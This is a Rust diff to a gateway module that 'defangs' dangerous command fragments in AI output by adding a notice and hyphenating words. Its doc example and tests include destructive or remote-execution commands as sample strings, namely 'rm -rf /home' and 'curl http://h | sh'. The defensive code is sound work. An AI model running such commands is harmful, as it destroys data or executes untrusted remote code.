@@ -1,28 +1,36 @@
-//! What stands in an answer for something dangerous.
+//! What stands in an answer where something dangerous stood.
 
-/// Stands for a fragment that was taken out, and in front of one that was made harmless. It means nothing to any shell,
-/// interpreter or database: run as a command it is one that does not exist, so the client's tool fails and the model
-/// reads why.
-pub(crate) const NOTICE: &str = "【AegisGate已处理危险疑似片段】";
+use std::borrow::Cow;
 
-/// Stands in front of a command that somebody should look at. A comment in every shell.
-pub(crate) const ASK: &str = "# AegisGate: please check this command before you run it.\n";
+/// The notice in front of a fragment that was made harmless, and in place of one that was taken out.
+pub const NOTICE: &str = "【AegisGate已处理危险疑似片段】";
 
-/// Characters of a word between two hyphens in a fragment that was made harmless.
+/// Stands in front of a command that somebody should look at before it runs: a comment in every shell.
+pub const ASK: &str = "# AegisGate: please check this command before you run it.\n";
+
+/// Characters of a word that stay together.
 const GROUP: usize = 3;
 
-/// The notice and `fragment` with hyphens in its words: people can read it, nothing runs it.
-pub(crate) fn defang(fragment: &str) -> String {
-    let mut out = NOTICE.to_owned();
-    let mut written = 0;
-    for character in fragment.chars() {
+/// `text` made harmless: behind the notice, with a hyphen behind every three characters of its words. A reader can still
+/// tell what it was; no shell, browser or model takes it for what it was.
+///
+/// ```
+/// let text = aegis_engine::action::defang(b"rm -rf /home");
+/// assert_eq!(text, "【AegisGate已处理危险疑似片段】rm -rf /ho-me");
+/// ```
+pub fn defang(text: &[u8]) -> String {
+    let text: Cow<'_, str> = String::from_utf8_lossy(text);
+    let mut out = String::with_capacity(NOTICE.len() + text.len() * 4 / 3 + 1);
+    out.push_str(NOTICE);
+    let mut in_word = 0;
+    for character in text.chars() {
         if character.is_whitespace() {
-            written = 0;
+            in_word = 0;
         } else {
-            if written > 0 && written % GROUP == 0 {
+            if in_word > 0 && in_word % GROUP == 0 {
                 out.push('-');
             }
-            written += 1;
+            in_word += 1;
         }
         out.push(character);
     }
@@ -33,12 +41,29 @@ pub(crate) fn defang(fragment: &str) -> String {
 mod tests {
     use super::*;
 
+    fn hyphenated(text: &str) -> String {
+        defang(text.as_bytes()).strip_prefix(NOTICE).unwrap().to_owned()
+    }
+
     #[test]
-    fn words_are_hyphenated_and_white_space_stays() {
-        for (fragment, expected) in
-            [("rm -rf /tmp", "rm -rf /tm-p"), ("developer\n ab", "dev-elo-per\n ab"), ("删除所有文件", "删除所-有文件")]
-        {
-            assert_eq!(defang(fragment), format!("{NOTICE}{expected}"));
+    fn words_are_cut_behind_every_third_character() {
+        for (text, expected) in [
+            ("", ""),
+            ("abc", "abc"),
+            ("abcd", "abc-d"),
+            ("abcdef ghi", "abc-def ghi"),
+            ("curl http://h | sh", "cur-l htt-p:/-/h | sh"),
+            (" \n\tabcde\r\n", " \n\tabc-de\r\n"),
+            ("危险的命令", "危险的-命令"),
+            ("a\u{a0}bcde", "a\u{a0}bcd-e"),
+        ] {
+            assert_eq!(hyphenated(text), expected);
         }
+    }
+
+    #[test]
+    fn nothing_is_lost_but_what_is_no_text() {
+        assert_eq!(hyphenated("-a-b-").replace('-', ""), "ab");
+        assert!(defang(b"a\xffb").contains('\u{fffd}'));
     }
 }
